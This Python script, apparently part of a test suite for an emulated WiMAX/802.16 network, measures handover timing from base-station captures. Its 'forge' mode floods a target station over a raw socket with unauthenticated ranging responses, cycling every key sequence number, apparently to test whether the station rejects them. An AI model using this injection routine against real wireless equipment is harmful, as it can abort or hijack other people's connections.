#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""The air of a handover.

    27-handover.py forge IFNAME STATION    RNG-RSPs without keys, from the address of IFNAME, until ended
    27-handover.py frames FROM TO STATION  what passed until traffic flowed again, by the captures of
                                           the base stations
"""
import pathlib
import socket
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / 'property'))
from mac import crc_ofdma, header  # noqa: E402

M2M = 0x08f0
PDU_BURST = 9
RNG_REQ, RNG_RSP, PKM_REQ, PKM_RSP = 4, 5, 9, 10


def address(text):
    return bytes.fromhex(text.replace(':', ''))


def tlv(kind, value):
    return bytes((kind, len(value))) + value


def frame(dst, src, message):
    """A clear PDU on the initial ranging connection, in a frame of the air."""
    pdu = header(0, 0, 0, 1, 0, 6 + len(message) + 4, 0) + message
    pdu += crc_ofdma(pdu)
    return dst + src + struct.pack('>HHH', M2M, 0, 1) + tlv(PDU_BURST, pdu)


def forge(ifname, station):
    air = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(M2M))
    air.bind((ifname, M2M))
    own = air.getsockname()[4]
    head = bytes((RNG_RSP, 0))
    cids = tlv(8, station) + tlv(9, b'\x00\x63') + tlv(10, b'\x01\xa3')
    abort = head + tlv(4, b'\x02') + tlv(8, station)
    keep = head + tlv(4, b'\x03') + cids + tlv(21, b'\x00\x87')
    forged = [abort, head + tlv(4, b'\x03') + cids, keep]
    # one of these has the AK_SN that the station waits for
    for ak_sn in range(16):
        forged += [m + tlv(141, bytes((ak_sn,)) + bytes(12)) for m in (keep, abort)]
    while True:
        for message in forged:
            air.send(frame(station, own, message))
        time.sleep(0.01)


def pdus(path):
    """(time, destination, source, PDU) of a capture of wman-bs."""
    data = pathlib.Path(path).read_bytes()
    at = 24
    while at + 16 <= len(data):
        seconds, fraction, size = struct.unpack_from('<III', data, at)
        packet = data[at + 16:at + 16 + size]
        at += 16 + size
        # what is being written
        if at > len(data):
            return
        count, pos = struct.unpack_from('>H', packet, 16)[0], 18
        for _ in range(count):
            kind, length, pos = packet[pos], packet[pos + 1], pos + 2
            if length & 0x80:
                octets = length & 0x7f
                length = int.from_bytes(packet[pos:pos + octets], 'big')
                pos += octets
            if kind == PDU_BURST:
                yield seconds + fraction / 1e6, packet[:6], packet[6:12], packet[pos:pos + length]
            pos += length


def is_data(pdu):
    return pdu[0] & 0x40


def has_eap(message):
    return message[0] in (PKM_REQ, PKM_RSP) and message[1] in (17, 18)


def frames(old, new, station):
    last = max((when for when, dst, src, pdu in pdus(old)
                if station in (dst, src) and is_data(pdu)), default=0)
    up, down, eap, begun, first = [], [], 0, 0, 0
    for when, dst, src, pdu in pdus(new):
        if station not in (dst, src):
            continue
        message = pdu[6:]
        # the last handover counts
        if not is_data(pdu) and message[0] == RNG_REQ and (first or not begun):
            up, down, eap, begun, first = [], [], 0, when, 0
        if first or not begun:
            continue
        if is_data(pdu):
            first = when
            continue
        (up if src == station else down).append(message[0])
        eap += has_eap(message)
    print(f'frames: {len(up)} up {up}, {len(down)} down {down}, {eap} with EAP; '
          f'{(first - begun) * 1000:.1f} ms from RNG-REQ to traffic, '
          f'{(first - last) * 1000:.1f} ms without traffic')
    return not (begun and first and len(up) <= 6 and len(down) <= 6 and eap == 0)


def main():
    command, *rest = sys.argv[1:]
    if command == 'forge':
        return forge(rest[0], address(rest[1]))
    if command == 'eap':
        print(sum(has_eap(pdu[6:]) for _, _, _, pdu in pdus(rest[0]) if not is_data(pdu)))
        return 0
    return frames(rest[0], rest[1], address(rest[2]))


if __name__ == '__main__':
    sys.exit(main())
